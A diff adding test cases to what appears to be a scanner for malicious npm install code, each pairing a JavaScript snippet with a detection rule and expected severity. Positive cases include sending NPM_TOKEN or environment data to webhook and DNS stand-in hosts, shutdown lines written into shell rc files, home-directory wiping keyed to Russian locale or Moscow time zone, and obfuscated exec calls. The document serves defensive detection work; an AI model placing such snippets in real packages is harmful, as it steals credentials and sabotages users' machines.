@@ -331,6 +331,66 @@ CASES = [
     _case("minified-message", "GH-INSTALL-FETCH-EXEC", None,
           _PRE + 'var e=require("child_process").execSync;console.log("run: " + '
           '"curl -fsSL https://x.example.invalid/i.sh | sh"),e("node -v");'),
+    # 0068's addendum: a host split across a concatenation or a join
+    _case("webhook-host-concat", "GH-EXFIL-WEBHOOK", "high",
+          _HEAD + "const h = 'x1.' + 'webhook' + '.site';\nhttps.get('https://' + h + '/?d=' + process.env.NPM_TOKEN);"),
+    _case("webhook-host-joined", "GH-EXFIL-WEBHOOK", "high",
+          _HEAD + "const h = ['c1', 'oast', 'fun'].join('.');\nhttps.get(`https://${h}/?d=${process.env.NPM_TOKEN}`);"),
+    _case("webhook-host-words", "GH-EXFIL-WEBHOOK", None,
+          _HEAD + "const msg = 'Use a ' + 'webhook' + ' site';\nconst path = ['a', 'fun'].join('.');", install=False),
+    # rc names built at run time
+    _case("rc-dot-plus-var", "GH-PERSIST-SHELL-RC", "high",
+          _HEAD + "for (const rc of ['bashrc', 'zshrc']) fs.appendFileSync(path.join(os.homedir(), '.' + rc), '\\nsudo shutdown -h 0\\n');",
+          install=False),
+    _case("rc-dot-plus-literal", "GH-PERSIST-SHELL-RC", "high",
+          _HEAD + "fs.appendFileSync(path.join(os.homedir(), '.' + 'bashrc'), 'alias ls=x');"),
+    _case("rc-dot-template", "GH-PERSIST-SHELL-RC", "high",
+          _HEAD + "const rc = 'zshrc';\nfs.appendFileSync(`${os.homedir()}/.${rc}`, 'alias ls=x');"),
+    _case("rc-shell-names", "GH-PERSIST-SHELL-RC", None,
+          _HEAD + "const shells = {bash: 'bashrc', zsh: 'zshrc'};\nfs.writeFileSync('out.json', JSON.stringify(shells));"),
+    # the language by its first letters, the zone compared whole
+    _case("locale-starts-with", "GH-SABOTAGE-GEO", "high",
+          _HEAD + "const lang = process.env.LANG || '';\nif (lang.startsWith('ru')) walk(os.homedir());" + _WALK,
+          install=False),
+    _case("zone-equals", "GH-SABOTAGE-GEO", "high",
+          _HEAD + "if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') walk(os.homedir());" + _WALK,
+          install=False),
+    _case("locale-starts-with-i18n", "GH-SABOTAGE-GEO", None,
+          _HEAD + "const lang = process.env.LANG || '';\nconst msgs = lang.startsWith('ru') ? ru : en;\nconsole.log(msgs.hello, msgs.bye, msgs.title, msgs.cleaning, msgs.intro, msgs.more, msgs.done, msgs.end, msgs.x);\n"
+          "for (const f of fs.readdirSync(os.tmpdir())) if (f.startsWith('cache-')) fs.rmSync(path.join(os.tmpdir(), f), {recursive: true});",
+          install=False),
+    # base64 without its padding
+    _case("names-base64-unpadded", "GH-OBFUSCATED-NAMES", "high",
+          "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw', 'base64').toString()).execSync('id');", install=False),
+    _case("names-base64-padded", "GH-OBFUSCATED-NAMES", "high",
+          "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).execSync('id');", install=False),
+    # XOR over a Buffer's bytes
+    _case("xor-buffer-map", "GH-DECODE-CHARCODE-EXEC", "high",
+          "const k = 23;\nconst d = s => Buffer.from(s, 'hex').map(b => b ^ k).toString();\n"
+          "require('child_process').execSync(d('7475'));"),
+    _case("xor-buffer-loop", "GH-DECODE-CHARCODE-EXEC", "high",
+          "function d(s, k) { const b = Buffer.from(s, 'base64'); for (let i = 0; i < b.length; i++) b[i] ^= k[i % k.length]; return b.toString(); }\n"
+          "require('child_process').execSync(d('AAEC', 'key'));"),
+    _case("xor-buffer-hash", "GH-DECODE-CHARCODE-EXEC", None,
+          "function h(buf) { let x = 0; for (const b of Buffer.from(buf)) x = (x ^ b) * 16777619 >>> 0; return x; }\n"
+          "require('child_process').execSync('git rev-parse HEAD');"),
+    _case("xor-cipher-rounds", "GH-DECODE-CHARCODE-EXEC", None,
+          "function r(s, k, n) { for (let i = 0; i < 16; i++) s[i] ^= k[n * 16 + i]; return Buffer.from(s).toString('hex'); }\n"
+          "require('child_process').execSync('git status');"),
+    # the package manager held in a variable
+    _case("publish-program-var", "GH-PROPAGATE-NPM-PUBLISH", "high",
+          _HEAD + "const npmBin = process.platform === 'win32' ? 'npm.cmd' : 'npm';\ncp.spawnSync(npmBin, ['publish'], {cwd: dir});"),
+    _case("publish-other-tool-var", "GH-PROPAGATE-NPM-PUBLISH", None,
+          _HEAD + "const yalcBin = path.join(__dirname, 'node_modules', '.bin', 'yalc');\ncp.spawnSync(yalcBin, ['publish'], {cwd: dir});"),
+    # a DNS callback carrying data
+    _case("dns-resolve-template", "GH-EXFIL-WEBHOOK", "high",
+          _HEAD + "const data = Buffer.from(os.hostname()).toString('hex');\nrequire('dns').resolve(`${data}.c.example.invalid`, () => {});"),
+    _case("dns-lookup-encoded", "GH-EXFIL-WEBHOOK", "high",
+          _HEAD + "const dns = require('dns');\nconst sub = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);\ndns.lookup(sub + '.c.example.invalid', () => {});"),
+    _case("dns-lookup-host", "GH-EXFIL-WEBHOOK", None,
+          _HEAD + "require('dns').lookup('registry.npmjs.org', (e) => process.exit(e ? 1 : 0));"),
+    _case("dns-lookup-library", "GH-EXFIL-WEBHOOK", None,
+          "const dns = require('dns');\nmodule.exports = (host, cb) => dns.lookup(`${host}.local`, cb);", install=False),
 ]  # fmt: skip
 
 
